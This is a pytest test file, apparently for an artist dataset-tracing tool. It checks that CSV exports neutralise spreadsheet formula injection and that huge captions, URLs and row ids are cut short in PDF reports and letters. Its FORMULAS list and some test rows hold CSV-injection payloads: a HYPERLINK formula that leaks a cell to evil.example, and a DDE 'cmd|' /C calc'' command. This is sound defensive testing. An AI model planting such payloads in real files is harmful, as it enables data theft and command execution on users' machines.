"""Nothing a dataset says can hurt: captions and URLs from the open web become inert CSV cells, and the evidence
PDF and the letters show a bounded part of them, saying that it was cut (the full text stays in the catalogue,
its SHA-256 in the manifest)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path

import pytest
from pypdf import PdfReader

from core.app import TrainTrace
from core.export import csv_cell
from core.paths import AppPaths
from tests.hostile.conftest import catalogue_with, cli, url_match
from tests.imagefactory import pattern, save

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_every_cell_that_a_spreadsheet_would_run_is_neutralised(tmp_path: Path) -> None:
    home = tmp_path / "home"
    rows = [
        url_match(f"https://ada-paints.art/w/{n}.jpg", caption=text, row_id=str(n)) for n, text in enumerate(FORMULAS)
    ]
    rows.append(url_match("https://ada-paints.art/w/plain.jpg", caption="Harbour at dusk, 2024", row_id="plain"))
    rows.append(url_match("=cmd|' /C calc'!A0", caption="a URL cell too", row_id="=1+2"))
    catalogue_with(home, rows)
    assert cli(home, "matches", "list", "--csv", tmp_path / "m.csv", "--json", tmp_path / "m.json") == 0
    with open(tmp_path / "m.csv", newline="", encoding="utf-8") as handle:
        records = list(csv.DictReader(handle))
    by_row = {record["row_id"]: record for record in records}
    for number, text in enumerate(FORMULAS):
        assert by_row[str(number)]["text"] == "'" + text
    assert by_row["plain"]["text"] == "Harbour at dusk, 2024"
    hostile = by_row["'=1+2"]
    assert hostile["url"] == "'=cmd|' /C calc'!A0"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in records for cell in r.values() if cell)
    assert by_row["plain"]["score"] == "0.9"  # numbers are numbers
    document = json.loads((tmp_path / "m.json").read_text())
    assert {m["text"] for m in document["matches"]} >= set(FORMULAS)  # JSON keeps the data as it is


def test_file_names_in_the_works_csv_are_neutralised_too(tmp_path: Path) -> None:
    save(pattern(40, 30, seed=1), tmp_path / "works" / "=1+1.png")
    save(pattern(40, 30, seed=2), tmp_path / "works" / "@evil.png")
    assert cli(tmp_path / "home", "scan", tmp_path / "works", "--csv", tmp_path / "w.csv") == 0
    paths = {record["path"] for record in csv.DictReader(io.StringIO((tmp_path / "w.csv").read_text()))}
    assert paths == {"'=1+1.png", "'@evil.png"}


def test_the_cell_rule_itself() -> None:
    assert csv_cell("=1") == "'=1" and csv_cell("-x") == "'-x" and csv_cell("\rx") == "'\rx"
    assert csv_cell("a=1") == "a=1" and csv_cell(" =1") == " =1"
    assert csv_cell(-3) == -3 and csv_cell(0.5) == 0.5 and csv_cell(None) == ""


TEN_MB = 10 * 1024 * 1024


@pytest.fixture
def huge_match(tmp_path: Path) -> tuple[Path, str, str, str]:
    """A confirmed match whose caption is 10 MB, URL 1 MB and row id 100 kB (all from "the dataset")."""
    caption = (("ARTIST Ada Lindqvist " + "lorem ipsum dolor sit amet " * 8)[:200] * (TEN_MB // 200 + 1))[:TEN_MB]
    url = "https://ada-paints.art/w/" + "a" * 1_000_000 + ".jpg"
    row_id = "9" * 100_000
    home = tmp_path / "home"
    catalogue_with(home, [url_match(url, caption=caption, row_id=row_id)])
    return home, caption, url, row_id


def test_a_10_mb_caption_gives_a_short_pdf_that_says_it_was_cut(
    tmp_path: Path, huge_match: tuple[Path, str, str, str]
) -> None:
    home, caption, url, row_id = huge_match
    pdf = tmp_path / "evidence.pdf"
    assert cli(home, "report", "--pdf", pdf) == 0
    reader = PdfReader(pdf)
    assert len(reader.pages) <= 8
    assert pdf.stat().st_size < 1_000_000
    flat = "".join("".join(page.extract_text() for page in reader.pages).split())  # wrapped lines joined
    assert "[cutbyTrainTrace:10,485,760charactersinall,thefirst1,000shown" in flat
    assert hashlib.sha256(caption.encode()).hexdigest() in flat
    manifest = json.loads((tmp_path / "evidence.pdf.manifest.json").read_text())
    cut = {entry["field"]: entry for entry in manifest["inputs"]["matches"]["cut_in_pdf"]}
    assert set(cut) == {"caption", "url", "row_id"}
    assert cut["caption"]["sha256"] == hashlib.sha256(caption.encode()).hexdigest()
    assert cut["caption"]["characters"] == len(caption) == TEN_MB
    assert cut["url"]["sha256"] == hashlib.sha256(url.encode()).hexdigest()
    with TrainTrace.open(AppPaths.resolve(home)) as app:
        (stored,) = app.matches("confirmed")
    assert stored.caption == caption and stored.url == url and stored.row_id == row_id  # the catalogue keeps all


def test_letters_show_a_bounded_part_and_never_paste_a_cut_address(
    huge_match: tuple[Path, str, str, str], tmp_path: Path
) -> None:
    home, caption, url, _row_id = huge_match
    templates = home / "templates"
    templates.mkdir()
    shown = "{% for l in listings %}{{ l.caption }}\n{{ l.url }}\n{{ l.row_id }}\n{% endfor %}"
    (templates / "reservation-notice.txt.j2").write_text(shown)
    letters = tmp_path / "letters"
    assert cli(home, "optout", "letters", "--out", letters) == 0
    notice = (letters / "reservation-notice.txt").read_text()
    assert len(notice) < 10_000
    assert notice.count("cut by TrainTrace") == 3 and f"{len(caption):,} characters in all" in notice
    assert url not in (letters / "spawning-do-not-train.txt").read_text()
    assert "too long to list here" in (letters / "spawning-do-not-train.md").read_text()
    assert all(path.stat().st_size < 100_000 for path in letters.iterdir())
